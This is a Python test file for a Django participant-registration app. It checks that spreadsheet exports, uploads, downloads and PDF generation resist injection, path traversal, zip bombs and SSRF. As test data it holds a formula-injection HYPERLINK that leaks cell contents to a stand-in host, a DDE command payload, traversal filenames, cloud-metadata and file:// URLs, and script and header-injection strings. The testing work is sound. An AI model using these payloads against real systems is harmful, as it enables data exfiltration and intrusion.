"""Files in and out: no formula runs, no name is a path, nothing huge is opened or served."""

import csv
import re
import zipfile
from contextlib import suppress
from datetime import date
from importlib import import_module
from io import BytesIO, StringIO
from pathlib import Path

import pytest
from django.core.exceptions import SuspiciousFileOperation
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from iuran.models import SumberDana
from iuran.tagihan.actions.susun import susun_tagihan
from iuran.tagihan.actions.terbit import minta_daftar
from laporan.actions.bulanan import Kata
from laporan.models import Surat
from peserta.models import Impor, Pekerjaan
from pijar.models import Tugas
from pijar.pdf import ambil_statis
from pijar.tugas import Pelaksana
from tests.factories import PesertaFactory, sumber, terdaftar
from tests.iuran.susunan import jalankan, susun
from tests.laporan.tutup import tutup
from tests.peserta.lembar import JUDUL, kerjakan, orang, unggah, xlsx
from tests.verifikasi.susunan import ajukan_satu, susun_draf
from verifikasi import actions

RUMUS = '=HYPERLINK("http://jahat.example/?"&A2,"klik")'
JAHAT = (RUMUS, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "http://jahat.example", "=cmd|' /C calc'!A0")


def tanpa_rumus(isi: bytes, *dicari: str) -> None:
    """No cell runs or leads anywhere, and ``dicari`` stand there as text."""
    with zipfile.ZipFile(BytesIO(isi)) as arsip:
        for nama in arsip.namelist():
            xml = arsip.read(nama).decode(errors="replace")
            assert "<f>" not in xml, nama
            assert "<f " not in xml, nama
            assert "<hyperlink" not in xml, nama
            assert 'TargetMode="External"' not in xml, nama
    buku = load_workbook(BytesIO(isi))
    sel = [s for ws in buku.worksheets for baris in ws.iter_rows() for s in baris]
    assert {s.data_type for s in sel} <= {"s", "n", "d", "inlineStr"}
    assert {*dicari} <= {s.value for s in sel}


def hasil(tugas: Tugas) -> bytes:
    tugas.refresh_from_db()
    assert tugas.galat == ""
    with tugas.hasil.open() as berkas:
        return berkas.read()


def test_export_of_people(petugas_client):
    for n, jahat in enumerate(JAHAT):
        PesertaFactory(nama=jahat, alamat=jahat, n=n)
    petugas_client.post(reverse("peserta:ekspor"), {"sebab": "rekap"})

    tanpa_rumus(hasil(kerjakan(Tugas.objects.get())), *JAHAT)


def test_rows_left_of_an_import_with_titles_of_the_file(petugas_client):
    berkas = StringIO()
    csv.writer(berkas).writerows(
        [[*JUDUL, RUMUS], [*orang(1, nama="", alamat="=1+1"), "+1"], [*orang(2, nama=""), "=A1"]]
    )
    impor = unggah(petugas_client, berkas.getvalue().encode(), "daftar.csv")

    petugas_client.post(reverse("peserta:impor_sisa", args=[impor.pk]))

    isi = hasil(kerjakan(Tugas.objects.get(jenis="peserta.unduh_sisa")))
    tanpa_rumus(isi, RUMUS, "=1+1", "+1", "=A1")


def test_template_with_an_occupation_of_the_admin(petugas_client):
    Pekerjaan.objects.create(kode="jahat", nama=RUMUS, kelompok="jasa")

    jawaban = petugas_client.get(reverse("peserta:templat"))
    isi = b"".join(jawaban.streaming_content)

    sel = [s for ws in load_workbook(BytesIO(isi)).worksheets for b in ws.iter_rows() for s in b]
    assert {s.data_type for s in sel} <= {"s", "n", "inlineStr"}


def test_annex_of_a_decree(admin):
    PesertaFactory(nama=RUMUS, status="layak")
    draf = susun_draf(admin, "=1+1/2026")

    tugas = kerjakan(actions.minta_lampiran(draf, oleh=admin))

    tanpa_rumus(hasil(tugas), RUMUS)
    assert tugas.hasil_nama == "daftar-11-2026.xlsx"


def test_cases_that_were_not_approved(petugas, verifikator):
    from pijar import tugas as tugas_latar  # noqa: PLC0415 - the word is taken above

    kasus = ajukan_satu(petugas, nama=RUMUS, dengan_keterangan=False)
    tugas = tugas_latar.buat(
        "verifikasi.setujui_banyak",
        judul="Setujui",
        oleh=verifikator,
        parameter={"pks": [kasus.pk], "kode": [], "dasar": "", "oleh": verifikator.pk},
    )

    tanpa_rumus(hasil(kerjakan(tugas)), RUMUS)


def test_batch_for_bpjs(admin):
    from tests.factories import BantuanFactory  # noqa: PLC0415 - used once

    BantuanFactory(peserta=PesertaFactory(nama=RUMUS, status="ditetapkan", alamat="+1"))

    tugas = jalankan(susun(admin).tugas_excel)

    tanpa_rumus(hasil(tugas), RUMUS, "+1")


@pytest.mark.parametrize("batas", [2_000, 0])
def test_list_of_a_bill_short_and_long(admin, monkeypatch, batas):
    monkeypatch.setattr("iuran.tagihan.dokumen.BATAS_KECIL", batas)
    terdaftar(nama=RUMUS)
    tagihan = susun_tagihan(sumber("APBD"), date(2026, 3, 1), oleh=admin)

    excel = minta_daftar(tagihan, oleh=admin)

    tanpa_rumus(hasil(jalankan(excel)), RUMUS)


def test_monthly_report(admin, admin2):
    SumberDana.objects.filter(kode="APBD").update(nama=RUMUS)
    terdaftar()

    tutup(date(2026, 11, 1), admin, admin2, kata=Kata(RUMUS, RUMUS, RUMUS))

    tanpa_rumus(hasil(kerjakan(Surat.objects.get().tugas_excel)))


# Names of files

NAMA_JAHAT = (
    "../../etc/passwd.xlsx",
    "..\\..\\x.xlsx",
    "/abs/olut.xlsx",
    "a\x00b.xlsx",
    "siti 3374011502850001.xlsx",
    "x" * 300 + ".xlsx",
    "berkas.x/../../y",
    "‮gpj.xlsx",
)


@pytest.mark.parametrize("nama", NAMA_JAHAT)
def test_uploaded_name_is_never_a_path(petugas_client, settings, nama):
    petugas_client.post(
        reverse("peserta:impor"),
        {"berkas": SimpleUploadedFile(nama, xlsx(orang(1))), "sumber_data": "kelurahan"},
    )

    for impor in Impor.objects.all():
        path = Path(impor.berkas.path).resolve()
        assert path.is_relative_to(Path(settings.MEDIA_ROOT).resolve())
        assert re.fullmatch(r"impor/\d{4}/\d\d/[0-9a-f]{32}[.a-z]*", impor.berkas.name)
        assert path.stat().st_mode & 0o077 == 0
        assert len(impor.nama_berkas) <= 150


@pytest.mark.parametrize("nama", NAMA_JAHAT)
def test_result_never_leaves_its_folder(petugas, settings, nama):
    tugas = Tugas(jenis="peserta.ekspor", judul="x", oleh=petugas, status="selesai")
    with suppress(SuspiciousFileOperation, ValueError):  # a refusal is right too
        Pelaksana(tugas).simpan_hasil(b"isi", nama)
    if not tugas.hasil:
        return

    path = Path(tugas.hasil.path).resolve()
    assert path.is_relative_to(Path(settings.MEDIA_ROOT).resolve() / "tugas")


def test_download_is_an_attachment_without_sniffing(petugas, petugas_client):
    tugas = Tugas(jenis="peserta.ekspor", judul="x", oleh=petugas, status="selesai")
    Pelaksana(tugas).simpan_hasil(b"<script>alert(1)</script>", 'a"; x=y\r\nX: z.html')
    tugas.save()

    jawaban = petugas_client.get(reverse("tugas:unduh", args=[tugas.pk]))
    b"".join(jawaban.streaming_content)

    assert jawaban["Content-Disposition"].startswith("attachment")
    assert "\n" not in jawaban["Content-Disposition"]
    assert jawaban["X-Content-Type-Options"] == "nosniff"
    assert "X" not in jawaban.headers


@pytest.mark.parametrize("awal", ["/media/", "/berkas/", "/static/../", "/tugas/../berkas/"])
def test_files_have_no_address_of_their_own(petugas, petugas_client, awal):
    tugas = Tugas(jenis="peserta.ekspor", judul="x", oleh=petugas, status="selesai")
    Pelaksana(tugas).simpan_hasil(b"isi", "peserta.xlsx")

    assert petugas_client.get(awal + tugas.hasil.name).status_code == 404


# Sizes


def test_too_large_an_upload_is_refused_before_it_is_kept(petugas_client, settings):
    settings.BATAS_BERKAS_MB = 1
    besar = SimpleUploadedFile("besar.xlsx", b"x" * (1 << 20) + b"x")
    sebelum = {*Path(settings.MEDIA_ROOT).rglob("*")}

    jawaban = petugas_client.post(
        reverse("peserta:impor"), {"berkas": besar, "sumber_data": "kelurahan"}
    )

    assert jawaban.status_code == 422
    assert not Impor.objects.exists()
    assert {*Path(settings.MEDIA_ROOT).rglob("*")} == sebelum


def test_bomb_fails_its_import_with_a_sentence(petugas_client):
    bom = BytesIO()
    with zipfile.ZipFile(bom, "w", zipfile.ZIP_DEFLATED) as arsip:
        arsip.writestr("xl/workbook.xml", b"<x/>")
        arsip.writestr("xl/worksheets/sheet1.xml", b"<row/>" * (50 << 20 >> 2))

    impor = unggah(petugas_client, bom.getvalue())

    assert impor.status == "gagal"
    assert "jauh lebih besar" in impor.galat or "rusak" in impor.galat


def test_large_uploads_go_to_disk_and_not_to_memory(settings):
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE <= 2.5 * (1 << 20)
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 5 << 20
    assert settings.FILE_UPLOAD_HANDLERS[-1].endswith("TemporaryFileUploadHandler")


@pytest.mark.perlu_pango
@pytest.mark.parametrize(
    "ke",
    [
        "http://jahat.example/",
        "https://169.254.169.254/latest/meta-data/",
        "file:///etc/passwd",
        "static:../pijar/settings.py",
        "static:/etc/passwd",
        "berkas:lain.png",
    ],
)
def test_a_paper_loads_nothing_but_our_own(ke):
    """Whatever stands in a text of ours, making its PDF asks nobody and reads no other file."""
    pengambil = ambil_statis(import_module("weasyprint"), {"berkas:logo.png": b"gambar"})

    with pytest.raises(ValueError, match="di luar static"):
        pengambil.fetch(ke)
    assert pengambil.fetch("berkas:logo.png").read() == b"gambar"
